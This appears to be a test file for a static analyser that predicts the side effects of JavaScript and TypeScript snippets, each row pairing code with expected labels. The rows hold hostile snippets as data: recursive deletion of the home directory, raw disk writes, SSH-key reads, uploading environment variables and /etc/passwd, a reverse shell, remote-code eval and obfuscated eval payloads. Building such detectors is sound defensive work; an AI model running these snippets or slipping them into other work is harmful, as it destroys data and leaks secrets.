// What JavaScript and TypeScript code would do: each row is code, and the effects that it must have, no more and no less.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are code.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from './effects-of.ts';

const ROWS: readonly (readonly [code: string, ...expected: string[]])[] = [
  // Names: whatever way a function is reached, it is the same function.
  ['require("fs").unlinkSync("x")', 'delete inside x'],
  ['require("node:fs/promises").unlink("x")', 'delete inside x'],
  ['import fs from "node:fs"; fs.promises.unlink("x")', 'delete inside x'],
  ['import * as f from "fs"; f.unlinkSync("x")', 'delete inside x'],
  ['import { unlinkSync as u } from "fs"; u("x")', 'delete inside x'],
  ['const { promises: { unlink: u } } = require("fs"); u("x")', 'delete inside x'],
  ['const fs = await import("fs"); fs.default.unlinkSync("x")', 'delete inside x'],
  ['import("fs").then((fs) => fs.unlinkSync("x"))', 'delete inside x'],
  ['import { createRequire } from "module"; createRequire(import.meta.url)("fs").unlinkSync("x")', 'delete inside x'],
  ['process.getBuiltinModule("fs").unlinkSync("x")', 'delete inside x'],
  ['process.mainModule.require("fs").unlinkSync("x")', 'delete inside x'],
  ['process.mainModule.constructor._load("fs").unlinkSync("x")', 'delete inside x'],
  ['require("f" + "s")["unlink" + "Sync"]("x")', 'delete inside x'],
  ['globalThis["require"]("fs").unlinkSync("x")', 'delete inside x'],
  ['require("fs").unlinkSync.call(null, "x")', 'delete inside x'],
  ['Reflect.apply(require("fs").unlinkSync, null, ["x"])', 'delete inside x'],
  ['const f = require("fs"); f[process.argv[2]]("x")', 'opaque'],
  ['require(process.argv[2]).go()', 'opaque'],
  ['process.binding("fs")', 'opaque'],

  // Values: literal texts, lists and functions are followed.
  ['const fs = require("fs"); for (const n of ["a", "b"]) fs.unlinkSync(n)', 'delete inside a', 'delete inside b'],
  ['const fs = require("fs"); ["a"].forEach((n) => fs.unlinkSync(n))', 'delete inside a'],
  ['const fs = require("fs"); ["a"].forEach(fs.unlinkSync)', 'delete inside a'],
  ['const fs = require("fs"); const f = (p = "x") => fs.unlinkSync(p); f()', 'delete inside x'],
  ['const fs = require("fs"); function f(p) { fs.unlinkSync(p) }'],
  [
    'const fs = require("fs"); class A { constructor(p) { this.p = p } go() { fs.unlinkSync(this.p) } } new A("x").go()',
    'delete inside x',
  ],
  ['const fs = require("fs"); setTimeout(() => fs.unlinkSync("x"), 10)', 'delete inside x'],
  ['const fs = require("fs"); process.on("exit", () => fs.unlinkSync("x"))', 'delete inside x'],
  ['const fs = require("fs"); fs.unlinkSync(["a", "o"].join("."))', 'delete inside a.o'],
  ['const fs = require("fs"); const n = "a"; fs.unlinkSync(`${n}.o`)', 'delete inside a.o'],
  ['const fs = require("fs"); fs.unlinkSync(String.fromCharCode(97, 46, 111))', 'delete inside a.o'],
  ['const fs = require("fs"); fs.unlinkSync([..."o.a"].reverse().join(""))', 'delete inside a.o'],
  ['const fs = require("fs"); let p = "a"; if (x) p = "b"; fs.unlinkSync(p)', 'delete inside a', 'delete inside b'],
  ['const fs = require("fs"); let p = "/etc/x"; { let p = "a"; } fs.unlinkSync(p)', 'delete system /etc/x'],
  ['const fs = require("fs"); fs.unlinkSync(process.argv[2])', 'delete dynamic'],
  ['const fs = require("fs"); fs.readdirSync("build").forEach((n) => fs.unlinkSync(`build/${n}`))', 'delete inside build/(name)'],

  // Places.
  ['require("fs").rmSync(require("os").homedir(), { recursive: true })', 'delete tree home ~'],
  ['require("fs").rmSync(process.env.HOME + "/x", { recursive: false })', 'delete home ~/x'],
  [
    'const path = require("path"); require("fs").rmSync(path.join(__dirname, "dist"), { recursive: true })',
    'delete tree inside dist',
  ],
  ['require("fs").rmSync(require("path").resolve("..", "x"))', 'delete parent /home/ann/work/x'.replace('/home/ann', '~')],
  [
    'const fs = require("fs"), os = require("os"); fs.rmSync(fs.mkdtempSync(os.tmpdir() + "/x-"), { recursive: true })',
    'delete tree own-temporary',
  ],
  ['require("rimraf").sync("/srv")', 'delete tree system /srv'],
  ['require("fs").writeFileSync("/etc/hosts", "")', 'overwrite system /etc/hosts'],
  ['require("fs").appendFileSync(`${process.env.HOME}/.zshrc`, "x")', 'persistence home ~/.zshrc'],
  ['require("fs").createWriteStream("/dev/sda")', 'disk device /dev/sda'],
  ['require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa")', 'read-secret home ~/.ssh/id_rsa'],
  ['await Bun.write("/etc/hosts", "")', 'overwrite system /etc/hosts'],
  ['await Deno.remove("/srv", { recursive: true })', 'delete tree system /srv'],

  // Other programs.
  ['require("child_process").execSync("rm -rf ~")', 'delete tree home ~'],
  ['require("child_process").spawn("rm", ["-rf", "x"])', 'delete tree inside x'],
  ['require("child_process").spawnSync("bash", ["-c", "rm x"])', 'delete inside x'],
  ['require("child_process").spawn("rm x", { shell: true })', 'delete inside x'],
  ['require("child_process").execFile("rm", ["x"], { cwd: "/srv" })', 'delete system /srv/x'],
  ['require("util").promisify(require("child_process").exec)("rm x")', 'delete inside x'],
  ['import { execa } from "execa"; await execa("rm", ["x"])', 'delete inside x'],
  ['import { $ } from "zx"; await $`rm ${"a b"}`', 'delete inside a b'],
  ['import { $ } from "execa"; await $({ cwd: "." })`rm x`', 'delete inside x'],
  ['require("shelljs").rm("-rf", "x")', 'delete tree inside x'],
  ['require("child_process").exec(process.argv[2])', 'opaque'],
  ['require("child_process").spawn("node", ["-e", "require(\'fs\').unlinkSync(\'x\')"])', 'delete inside x'],
  ['const c = require("child_process").spawn("npm", ["start"]); c.kill(); process.kill(c.pid)'],
  ['process.kill(-1)', 'process'],

  // Code made at run time.
  ["eval(\"require('fs').unlinkSync('x')\")", 'delete inside x'],
  ['new Function("r", "r(\'fs\').unlinkSync(\'x\')")(require)', 'delete inside x'],
  ['(() => {}).constructor("return process")().mainModule.require("fs").unlinkSync("x")', 'delete inside x'],
  ['require("vm").runInThisContext(atob("cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4Jyk="))', 'delete inside x', 'opaque'],
  [
    'eval(Buffer.from("726571756972652827667327292e756e6c696e6b53796e632827782729", "hex").toString())',
    'delete inside x',
    'opaque',
  ],
  [
    'eval(String(require("zlib").brotliDecompressSync(Buffer.from("Cw6AcmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4JykD", "base64"))))',
    'delete inside x',
    'opaque',
  ],
  ['eval(process.argv[2])', 'opaque'],
  ['eval(await (await fetch("https://example.com/x.js")).text())', 'download-execute'],
  ['new (require("worker_threads").Worker)("require(\'fs\').unlinkSync(\'x\')", { eval: true })', 'delete inside x'],
  [
    'require("fs").writeFileSync("m.cjs", "require(\'fs\').unlinkSync(\'x\')"); require("./m.cjs")',
    'overwrite inside m.cjs',
    'delete inside x',
  ],

  // Networks, databases, clouds.
  ['fetch("https://x.io", { method: "POST", body: JSON.stringify(process.env) })', 'upload'],
  ['const fs = require("fs"); fetch("https://x.io", { method: "POST", body: fs.readFileSync("/etc/passwd") })', 'upload'],
  ['fetch("https://x.io/items", { headers: { Authorization: process.env.TOKEN } })'],
  ['fetch("https://x.io/items/1", { method: "DELETE" })', 'cloud-destroy'],
  ['fetch("http://localhost:3000/items/1", { method: "DELETE" })'],
  [
    'const s = require("net").connect(1, "192.0.2.1"), p = require("child_process").spawn("sh"); s.pipe(p.stdin)',
    'reverse-shell',
  ],
  ['new (require("pg").Client)().query("DROP TABLE t")', 'database-destroy'],
  ['import mongoose from "mongoose"; mongoose.connection.dropDatabase()', 'database-destroy'],
  [
    'import { S3Client, DeleteBucketCommand } from "@aws-sdk/client-s3"; new S3Client().send(new DeleteBucketCommand({}))',
    'cloud-destroy',
  ],

  // What only looks like it.
  ['const m = new Map([["a", 1]]); m.delete("a")'],
  ['class Timer { kill() {} } new Timer().kill()'],
  ['/rm -rf/.exec("rm -rf ~")'],
  ['console.log("execSync(\'rm -rf ~\')") // require("fs").unlinkSync("x")'],
  ['const app = require("express")(); app.delete("/x", (q, r) => r.end())'],
  ['const q = { exec: async () => [1] }; await q.exec("rm -rf ~")'],
];

for (const [code, ...expected] of ROWS)
  test(`node: ${code}`, async () => assert.deepEqual((await effectsOf(code, 'node')).sort(), expected.sort()));

const TYPED: readonly (readonly [code: string, ...expected: string[]])[] = [
  ['import fs from "fs"; const p: string = "x"; fs.unlinkSync(p as string)', 'delete inside x'],
  [
    'interface A { p: string } function f<T extends A>(a: T): void { require("fs").unlinkSync(a!.p) } f<A>({ p: "x" })',
    'delete inside x',
  ],
  ['enum E { A = "x" } require("fs").unlinkSync(E.A)', 'delete inside x'],
  ['import fs = require("fs"); fs.unlinkSync("x" satisfies string)', 'delete inside x'],
  ['type A = { rm: () => void }; const a: A = { rm() {} }; a.rm()'],
];

for (const [code, ...expected] of TYPED)
  test(`typescript: ${code}`, async () => assert.deepEqual((await effectsOf(code, 'typescript')).sort(), expected.sort()));
